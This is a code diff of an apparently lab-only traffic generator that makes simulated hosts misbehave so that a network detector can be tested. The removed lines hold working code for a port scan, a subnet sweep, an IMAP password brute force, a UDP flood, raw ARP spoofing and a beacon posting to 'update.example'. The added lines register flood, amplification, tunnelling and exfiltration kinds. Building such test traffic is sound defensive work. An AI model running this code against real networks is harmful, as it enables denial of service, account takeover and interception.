@@ -2,47 +2,30 @@
 
 from __future__ import annotations
 
-import contextlib
 import ipaddress
 import random
-import socket
 import time
-from collections import deque
-from typing import TYPE_CHECKING, NamedTuple
+from typing import TYPE_CHECKING, Literal, NamedTuple
 
 from plugin.errors import InputError, nearest
-from plugin.lab import wire
-from plugin.lab.profiles import SERVICES, serves
+from plugin.lab.deeds import arp, floods, hidden, probes
+from plugin.lab.plan import Plan
+from plugin.lab.profiles import serves
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator, Mapping
 
     from plugin.lab.topology import Host, Topology
 
-SCANNED_PORTS = range(1, 1025)
-SWEPT_PORTS = (445, 22, 80)
-FLOOD_PORT = 9
-BEACON_BYTES = 220
-OPEN_MAX = 64
-"""Connections that a scanner keeps open at once."""
+__all__ = ["KINDS", "Kind", "Plan", "plan", "run"]
 
-
-class Plan(NamedTuple):
-    """What exactly a bad host does: the truth that a detector is held to."""
-
-    host: str
-    kind: str
-    target: str
-    """An address, or a network for a sweep."""
-    rate: float
-    """Connections, attempts, calls or packets a second."""
-    seconds: float | None
-    """How long; None: until it is calmed."""
-    seed: int
-    mac: str
-    about: str
-    """For ARP spoofing: the address that the host claims to have."""
-    target_mac: str
+FARM_MACHINES = 40
+OUTER_PREFIX = 24
+"""Length of the prefix of what is swept behind a router."""
+EVERYBODY = "255.255.255.255"
+TICK, WAIT_MAX = 0.01, 0.5
+"""Seconds between looks at the clock: of what is fast at most, of what is slow at most."""
+Place = Literal["host", "outside", "network", "outer network", "everybody"]
 
 
 class Kind(NamedTuple):
@@ -51,8 +34,13 @@ class Kind(NamedTuple):
     rate: float
     act: Callable[[Plan], Iterator[None]]
     """Does one step at each ``next``."""
-    prefers: str | None
+    prefers: str | None = None
     """Service of the host that it is turned against, if the caller names none."""
+    at: Place = "host"
+    """What of the victim it goes to: his address; one that he stands for outside, if he does; his
+    and everybody's network, or the one outside; or all who hear it."""
+    machines: int = 0
+    """Of a farm: it takes so many to do it to."""
 
 
 def plan(
@@ -100,6 +88,7 @@ def plan(
         mac=me.mac,
         about=str(claimed),
         target_mac=victim.mac,
+        targets=tuple(str(one.ip) for one in victim.addresses),
     )
 
 
@@ -118,94 +107,30 @@ def run(what: Plan) -> None:
         while done < due:
             next(steps)
             done += 1
-        time.sleep(min(1 / what.rate, 0.5))
-
-
-def _scan(what: Plan) -> Iterator[None]:
-    """Vertical scan: every low port of one host, in an order of chance, again and again."""
-    chance = random.Random(what.seed)  # noqa: S311 - no secret
-    waiting = _Waiting()
-    while True:
-        for port in chance.sample(SCANNED_PORTS, len(SCANNED_PORTS)):
-            waiting.try_connect(what.target, port)
-            yield
-
-
-def _sweep(what: Plan) -> Iterator[None]:
-    """Horizontal scan: a few ports of every address of its network."""
-    addresses = [str(address) for address in ipaddress.ip_network(what.target).hosts()]
-    waiting = _Waiting()
-    while True:
-        for port in SWEPT_PORTS:
-            for address in addresses:
-                waiting.try_connect(address, port)
-                yield
-
-
-def _brute(what: Plan) -> Iterator[None]:
-    """Brute force: one password after the other at a mailbox, each on a connection of its own."""
-    count = 0
-    while True:
-        count += 1
-        with (
-            contextlib.suppress(OSError),
-            socket.create_connection((what.target, SERVICES["imap"].port), 2) as peer,
-        ):
-            peer.recv(1024)
-            peer.sendall(b"a LOGIN anna guess%d\r\n" % count)
-            peer.recv(1024)
-            peer.sendall(b"b LOGOUT\r\n")
-        yield
-
-
-def _beacon(what: Plan) -> Iterator[None]:
-    """Beacon: calls home at equal times, with as many bytes each time.
-
-    At a port of its own: among a person's visits to the same one it would not be regular.
-    """
-    chance = random.Random(what.seed)  # noqa: S311 - no secret
-    while True:
-        body = wire.noise(chance, BEACON_BYTES)
-        request = wire.http_request("POST", "update.example", "/c", body)
-        with (
-            contextlib.suppress(OSError),
-            socket.create_connection((what.target, SERVICES["home"].port), 2) as peer,
-        ):
-            peer.sendall(request)
-            while peer.recv(65_536):
-                pass
-        yield
-
-
-def _flood(what: Plan) -> Iterator[None]:
-    """Flood: datagrams to one port, as fast as told."""
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
-        load = bytes(64)
-        while True:
-            with contextlib.suppress(OSError):  # "port unreachable" comes back as an error
-                sock.sendto(load, (what.target, FLOOD_PORT))
-            yield
-
-
-def _arp_spoof(what: Plan) -> Iterator[None]:
-    """ARP spoofing: tells its victim, and it alone, that the gateway's address is its own."""
-    me, victim = (bytes.fromhex(mac.replace(":", "")) for mac in (what.mac, what.target_mac))
-    frame = wire.arp_reply(me, socket.inet_aton(what.about), victim, socket.inet_aton(what.target))
-    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
-        sock.bind(("eth0", 0))
-        while True:
-            sock.send(frame)
-            yield
+        # Until the next step, and no later: a beacon is to be as regular as the machine lets it.
+        until = began + done / what.rate - time.monotonic()
+        time.sleep(min(max(until, min(1 / what.rate, TICK)), WAIT_MAX))
 
 
 KINDS: Mapping[str, Kind] = {
-    "scan": Kind(200, _scan, None),
-    "sweep": Kind(60, _sweep, None),
-    "brute": Kind(8, _brute, "imap"),
-    "beacon": Kind(0.2, _beacon, "home"),
-    "flood": Kind(4000, _flood, None),
-    "arp-spoof": Kind(2, _arp_spoof, None),
+    "scan": Kind(200, probes.scan),
+    "sweep": Kind(60, probes.sweep, at="network"),
+    "ping-sweep": Kind(20, probes.ping_sweep, at="outer network"),
+    "brute": Kind(8, probes.brute, "imap"),
+    "fan-out": Kind(4, probes.fan_out, "winrm", machines=FARM_MACHINES),
+    "beacon": Kind(0.2, hidden.beacon, "home", at="outside"),
+    "dns-tunnel": Kind(20, hidden.dns_tunnel, "dns"),
+    "icmp-tunnel": Kind(50, hidden.icmp_tunnel, at="outside"),
+    "exfiltrate": Kind(3, hidden.exfiltrate, "home", at="outside"),
+    "flood": Kind(4000, floods.udp_flood),
+    "syn-flood": Kind(300, floods.syn_flood),
+    "icmp-flood": Kind(300, floods.icmp_flood),
+    "dhcp-flood": Kind(50, floods.dhcp_flood, at="everybody"),
+    "amplify": Kind(100, floods.amplify, at="outside"),
+    "arp-spoof": Kind(2, arp.spoof),
+    "conflict": Kind(2, arp.conflict),
 }
+_OUTWARD = frozenset({"outside", "outer network"})
 
 
 def _choose(topology: Topology, me: Host, kind: str) -> Host:
@@ -226,19 +151,24 @@ def _choose(topology: Topology, me: Host, kind: str) -> Host:
             advice="name a target",
         )
     inside = [p for p in fitting if p.ip != me.gateway]
-    if kind == "beacon":  # calls outside, where there is an outside
+    if KINDS[kind].at in _OUTWARD:  # where there is an outside
         inside = [p for p in fitting if p.ip == me.gateway] or inside
     chance = random.Random(f"{topology.seed}/{me.name}/{kind}")  # noqa: S311 - no secret
     return chance.choice(inside or fitting)
 
 
 def _target(kind: str, me: Host, victim: Host) -> str:
-    """What a victim is called: a beacon calls an address outside its own network, if he has one."""
+    """What a victim is called: see `Kind.at`."""
     network = me.addresses[0].network
-    if kind == "sweep":
+    outside = [one.ip for one in victim.addresses if one.ip not in network]
+    at = KINDS[kind].at
+    if at == "everybody":
+        return EVERYBODY
+    if at == "outer network" and outside:
+        return str(ipaddress.ip_network((outside[0], OUTER_PREFIX), strict=False))
+    if at in {"network", "outer network"}:
         return str(network)
-    outside = [str(one.ip) for one in victim.addresses if one.ip not in network]
-    return outside[0] if kind == "beacon" and outside else str(victim.ip)
+    return str(outside[0]) if at == "outside" and outside else str(victim.ip)
 
 
 def _host(topology: Topology, name: str) -> Host:
@@ -247,19 +177,3 @@ def _host(topology: Topology, name: str) -> Host:
     except KeyError:
         known = nearest(name, {host.name for host in topology.hosts})
         raise InputError(f"no such host{known}", where=name) from None
-
-
-class _Waiting:
-    """Connections under way: as many as a scanner keeps open, the oldest closed first."""
-
-    def __init__(self) -> None:
-        self._open: deque[socket.socket] = deque()
-
-    def try_connect(self, address: str, port: int) -> None:
-        """Send a SYN; what comes back is for the kernel to see."""
-        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        sock.setblocking(False)
-        sock.connect_ex((address, port))
-        self._open.append(sock)
-        if len(self._open) > OPEN_MAX:
-            self._open.popleft().close()
